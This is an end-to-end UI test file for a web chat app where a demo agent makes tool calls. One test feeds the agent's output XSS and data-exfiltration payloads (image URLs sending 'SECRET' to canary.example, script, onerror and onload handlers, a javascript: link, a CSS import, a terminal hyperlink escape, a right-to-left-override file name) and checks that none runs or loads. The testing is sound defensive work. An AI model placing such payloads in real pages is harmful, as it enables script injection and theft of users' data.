import { beforeAll, beforeEach, expect, test } from "vitest";
import type { CreateSessionView } from "@/lib/session/contract";
import { waitFor } from "@/tests/harness/wait-for";
import { enterPerson } from "./person";
import type { Screen } from "./screen";

const person = enterPerson();
let session: CreateSessionView["session"];
let firstChat: string;
let address: string;

beforeAll(async () => {
  const made = await person.api.ready({ title: "Stories" });
  session = made.session;
  firstChat = made.chat.id;
});
beforeEach(async () => {
  const { body } = await person.api.post(`/api/sessions/${session.id}/chats`, {});
  address = `/sessions/${session.id}/chats/${(body as { chat: { id: string } }).chat.id}`;
});

const answers = (screen: Screen) => screen.page.getByRole("article", { name: "Dormouse" });
const sent = (screen: Screen) => screen.page.getByRole("article", { name: "You" });

test.each([
  { width: 1440, scheme: "light" },
  { width: 390, scheme: "dark" },
] as const)(
  "a call reads at a glance, opens to everything, and can be used by anybody: $width $scheme",
  async (look) => {
    const screen = await person.open(address, look);
    await screen.sayLong(
      "think About it.\nsay See **`notes.md`**.\nwrite notes.md: one\nedit notes.md: one => two\n$ printf 'out'; printf '\\033[31merr' >&2; exit 3\nread notes.md\nsay ## Done",
    );
    await answers(screen).getByText("Done: I made 4 tool calls").waitFor();
    await answers(screen).getByRole("heading", { name: "Done" }).waitFor();
    await screen.expectStill();
    // From below, as what is opened pushes the rest out of the document on a small screen.
    const shown = (name: string) => screen.page.getByRole("group", { name, exact: true });
    await screen.button("Read notes.md line 1").click();
    await shown("Content").getByText("two").waitFor();
    await screen.button(/^Run printf.*exit 3/).click();
    expect((await shown("Output").locator("pre").innerText()).trim()).toBe("out");
    expect((await shown("Error output").locator("pre").innerText()).trim()).toBe("err");
    await screen.button("Edit notes.md +1 −1").click();
    await shown("Change").getByText("two").waitFor();
    await screen.expectAccessible("opened calls");
    await screen.conversation.focus();
    await screen.page.keyboard.press("Home");
    await screen.button("Thought").click();
    await screen.conversation.getByText("About it.", { exact: true }).waitFor();
  },
);

test("what an agent writes runs nothing, loads nothing, and hides nothing", async () => {
  const screen = await person.open(address);
  const asked: string[] = [];
  screen.page.on("request", (request) => {
    if (request.url().includes("canary")) asked.push(request.url());
  });
  screen.page.on("dialog", (dialog) => asked.push(dialog.message()));
  await screen.say(
    [
      "say ![x](https://canary.example/?d=SECRET) <img src=https://canary.example/i onerror=alert(1)> <script>alert(2)</script>",
      "say [github.com](https://canary.example/login) [bad](javascript:alert(3)) <style>@import 'https://canary.example/s'</style>",
      "say <svg onload=alert(4)> https://canary.example/auto?d=SECRET",
      "$ printf '\\033]8;;https://canary.example/osc\\033\\\\click\\033]8;;\\033\\\\ <img src=x onerror=alert(5)>'",
      "write photo\u202egnp.txt: x",
    ].join("\n"),
  );
  await answers(screen).getByText("Done: I made 2 tool calls").waitFor();
  await answers(screen).getByText("(canary.example)").first().waitFor();
  expect(await answers(screen).locator("img, script, style, svg[onload], iframe").count()).toBe(0);
  for (const link of await answers(screen).getByRole("link").all()) {
    expect(await link.getAttribute("rel")).toContain("noopener");
    expect(await link.innerText()).toContain("canary.example");
  }
  await screen.button(/^Run printf/).click();
  const output = screen.page.getByRole("group", { name: "Output", exact: true }).locator("pre");
  expect(await output.innerText()).toBe("click <img src=x onerror=alert(5)>");
  await screen.button("Write photo[U+202E]gnp.txt +1").waitFor();
  expect(asked).toEqual([]);
});

test("chats are made, named, gone through and deleted, by mouse and by keys", async () => {
  const screen = await person.open(address, { width: 390 });
  const { page } = screen;
  const chats = page.getByRole("navigation", { name: "Chats" });
  const current = chats.locator("[aria-current=page]");
  await screen.button("This chat").click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByRole("dialog").getByLabel("Name").fill("Second thoughts");
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
  await current.filter({ hasText: "Second thoughts" }).waitFor();
  await page.getByRole("dialog").waitFor({ state: "hidden" });

  await screen.conversation.focus();
  await page.keyboard.press("t");
  await waitFor(async () => !page.url().endsWith(address));
  await screen.text("Nothing has been said yet.").waitFor();
  await screen.expectAccessible("empty chat");
  await screen.conversation.focus();
  await page.keyboard.press("[");
  await current.filter({ hasText: "Second thoughts" }).waitFor();
  await page.keyboard.press("m");
  await screen.composer.and(page.locator(":focus")).waitFor();

  await screen.button("This chat").click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete chat" }).click();
  await waitFor(async () => (await chats.getByText("Second thoughts").count()) === 0);
  await waitFor(async () => !page.url().endsWith(address));
  await screen.composer.waitFor();
});

test("a draft and the place in the queue survive a reload; files go with a message", async () => {
  const screen = await person.open(address);
  // The demo model cannot see: that is said, and what was to be sent stays.
  screen.expected.push(/422/);
  await screen.page.getByLabel("Files to send").setInputFiles({
    name: "shot.png",
    mimeType: "image/png",
    buffer: Buffer.from("pixels"),
  });
  await screen.button("Do not send shot.png").waitFor();
  await screen.say("Look at this.");
  await screen.text("cannot see images").waitFor();
  expect(await screen.composer.inputValue()).toBe("Look at this.");
  await screen.expectAccessible("refused image");
  await screen.button("Do not send shot.png").click();
  await screen.page.getByLabel("Files to send").setInputFiles({
    name: "shot.txt",
    mimeType: "text/plain",
    buffer: Buffer.from("seen"),
  });
  await screen.page
    .getByRole("list", { name: "Files of the message" })
    .getByText("shot.txt", { exact: true })
    .waitFor();
  await screen.say("slow 600");
  await sent(screen).getByText("shot.txt").waitFor();
  await answers(screen).getByText("w2 ").waitFor();
  await screen.say("say second");
  await screen.say("say third");
  const queue = screen.page.getByRole("region", { name: "Queued messages" });
  await queue.getByRole("listitem").filter({ hasText: /^2\./ }).getByText("say third").waitFor();
  await screen.composer.fill("not yet sent");
  await screen.page.reload();
  await queue.getByRole("listitem").filter({ hasText: /^2\./ }).getByText("say third").waitFor();
  await waitFor(async () => (await screen.composer.inputValue()) === "not yet sent");
  await screen.page.keyboard.press("Control+.");
  await answers(screen).getByText("third").waitFor();
});

test("a turn that reaches its limit asks in its place and goes on", async () => {
  const made = await person.api.ready({ title: "Limited", limits: { maxSteps: 1 } });
  const screen = await person.open(`/sessions/${made.session.id}/chats/${made.chat.id}`);
  await screen.say("$ echo one\n$ echo two");
  await screen.button(/^Run echo one/).waitFor();
  await screen.expectAccessible("paused at a limit");
  await screen.button("Change limits").click();
  const steps = screen.page.getByRole("dialog", { name: "Limits" }).getByLabel("Steps of a turn");
  expect(await steps.inputValue()).toBe("1");
  await steps.fill("2");
  await screen.expectAccessible("limits");
  await steps.press("Enter");
  await screen.button(/^Run echo two/).waitFor();
  await screen.openPart("Sandbox");
  await screen.text("2 steps a turn").waitFor();
  await screen.button("Go on").click();
  await sent(screen).getByText("Go on.").waitFor();
  // The demo model takes it for a message of its own and looks round.
  await screen.button(/^Run ls/).waitFor();
});

test("who looks elsewhere is told by the title and, if that was allowed, by a notification", async () => {
  const screen = await person.open(address, { fresh: true });
  await screen.page.addInitScript(() => {
    const told: string[] = [];
    class Stub {
      static permission = "default";
      static requestPermission = async () => {
        Stub.permission = "granted";
        return Stub.permission;
      };
      constructor(title: string, options: { body: string }) {
        told.push(`${title}: ${options.body}`);
      }
      close() {}
    }
    Object.assign(window, { told, Notification: Stub });
    Object.defineProperty(document, "visibilityState", {
      get: () => (Reflect.get(window, "away") ? "hidden" : "visible"),
    });
  });
  await screen.page.reload();
  await screen.say("slow 80");
  await screen.button("Tell me when it is done").click();
  await screen.button("Tell me when it is done").waitFor({ state: "detached" });
  const turnAway = (away: boolean) =>
    screen.page.evaluate((value) => {
      Object.assign(window, { away: value });
      document.dispatchEvent(new Event("visibilitychange"));
    }, away);
  await turnAway(true);
  await waitFor(async () => (await screen.page.title()).startsWith("(✓) "));
  expect(await screen.page.evaluate(() => Reflect.get(window, "told"))).toEqual([
    expect.stringMatching(/^(?!\().*: The agent is done\.$/),
  ]);
  await turnAway(false);
  await waitFor(async () => !(await screen.page.title()).startsWith("("));
});

test("a slow network and ten seconds without one move nothing and lose nothing", async () => {
  const url = `/sessions/${session.id}/chats/${firstChat}`;
  await person.api.turn(firstChat, "say # Title\nsay \nsay Some **words** and a list:\nsay \nsay - one\nsay - two");
  const screen = await person.open(url, { fresh: true });
  screen.expected.push(/ERR_INTERNET_DISCONNECTED|ERR_NETWORK_CHANGED|Failed to load resource/);
  // What the page fetches when it is idle comes first: this is about what a person waits for, not about parts never seen.
  await answers(screen).getByRole("heading", { name: "Title" }).waitFor();
  await screen.page.waitForFunction(() => {
    const last = performance
      .getEntriesByType("resource")
      .filter(({ name }) => name.includes("/_next/"))
      .at(-1);
    return last !== undefined && performance.now() - last.startTime > 4_000;
  });
  const cdp = await screen.page.context().newCDPSession(screen.page);
  const slow = { offline: false, latency: 200, downloadThroughput: 100_000, uploadThroughput: 50_000 };
  await cdp.send("Network.enable");
  await cdp.send("Network.emulateNetworkConditions", slow);
  await screen.page.reload();
  await answers(screen).getByRole("heading", { name: "Title" }).waitFor();
  await screen.say("slow 130");
  await answers(screen).last().getByText("w3 ").waitFor();
  await cdp.send("Network.emulateNetworkConditions", { ...slow, offline: true });
  await screen.page.context().setOffline(true);
  await new Promise((resolve) => setTimeout(resolve, 10_000));
  await screen.page.context().setOffline(false);
  await cdp.send("Network.emulateNetworkConditions", slow);
  await answers(screen)
    .last()
    .getByText(/w130\b/)
    .waitFor();
  const words = Array.from({ length: 130 }, (_, index) => `w${index + 1}`).join(" ");
  expect((await answers(screen).last().innerText()).replace(/\s+/g, " ")).toContain(words);
  await screen.expectStill();
});
